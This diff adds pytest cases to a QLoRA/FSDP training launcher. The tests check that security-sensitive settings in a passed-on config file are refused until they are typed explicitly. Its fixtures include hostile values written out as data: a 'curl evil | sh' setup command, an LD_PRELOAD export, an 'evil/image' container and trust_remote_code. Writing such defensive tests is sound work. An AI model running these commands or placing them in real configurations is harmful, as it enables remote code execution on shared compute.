@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import time
 import tracemalloc
 from pathlib import Path
@@ -9,6 +10,8 @@ from pathlib import Path
 import pytest
 
 from qlora_fsdp.config.bounded_yaml import parse_yaml
+from qlora_fsdp.config.schema import Files, Run
+from qlora_fsdp.config.settings import all_settings
 from qlora_fsdp.train import main
 
 DRY_RUN = ["model=tiny", "data=random", "training.max_steps=1", "launch.dry_run=true"]
@@ -115,6 +118,40 @@ def test_a_config_file_holds_settings_alone(
     Path("my.yaml").write_text(text)
     assert expected in refusal(capsys, "--config", "my.yaml")
     assert sorted(path.name for path in Path().iterdir()) == ["conf", "my.yaml"]
+
+
+ONLY_TYPED = {
+    "slurm.setup": (["curl evil | sh"], """'slurm.setup=["curl evil | sh"]'"""),
+    "slurm.options": (["--export=ALL,LD_PRELOAD=x"], """'slurm.options=["--export=ALL,LD_PRELOAD=x"]'"""),
+    "slurm.container": ("evil/image", "slurm.container=evil/image"),
+    "launch.config_file": ("accelerate.yaml", "launch.config_file=accelerate.yaml"),
+    "model.trust_remote_code": (True, "model.trust_remote_code=true"),
+}
+
+
+@pytest.mark.parametrize("key", ONLY_TYPED)
+def test_what_runs_and_who_is_connected_to_is_typed(folder: Path, capsys: pytest.CaptureFixture[str], key: str) -> None:
+    """A file that was passed on is told what to type; a folder of one's own may have it, and an empty value is none."""
+    value, typed = ONLY_TYPED[key]
+    Path("my.yaml").write_text(json.dumps({key: value}))
+    Path("accelerate.yaml").write_text("distributed_type: MULTI_GPU\nnum_processes: 2\n")
+    shown = refusal(capsys, "--config", "my.yaml")
+    assert f"my.yaml: {key}=" in shown and "Remove it; if you " in shown and f"type {typed}." in shown
+    Path("my.yaml").write_text(json.dumps({key: [] if isinstance(value, list) else None}))
+    if key != "model.trust_remote_code":
+        assert main(["--config", "my.yaml", "hydra/launcher=slurm", *DRY_RUN]) == 0
+    section, _, name = key.partition(".")
+    own = json.dumps({section: {name: value}})
+    (folder / "experiment" / "mine.yaml").write_text(f"# @package _global_\n{own}\n")
+    assert main(["--config-dir", "conf", "experiment=mine", "hydra/launcher=slurm", *DRY_RUN]) == 0
+
+
+def test_no_field_of_the_launch_decides_that_unsaid() -> None:
+    """What says how runs are started is looked at one by one: a new field says here or there whose it is."""
+    harmless = {"num_processes", "devices", "parallel", "dry_run", "partition", "account", "time", "nodes"}
+    harmless |= {"gpus_per_node", "cpus_per_task", "signal_seconds"}
+    start = {key for key, found in all_settings().items() if found.facets.run is Run.start}
+    assert {key.partition(".")[2] for key in start if all_settings()[key].files is not Files.none} == harmless
 
 
 def test_what_is_plain_in_it_is_taken(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
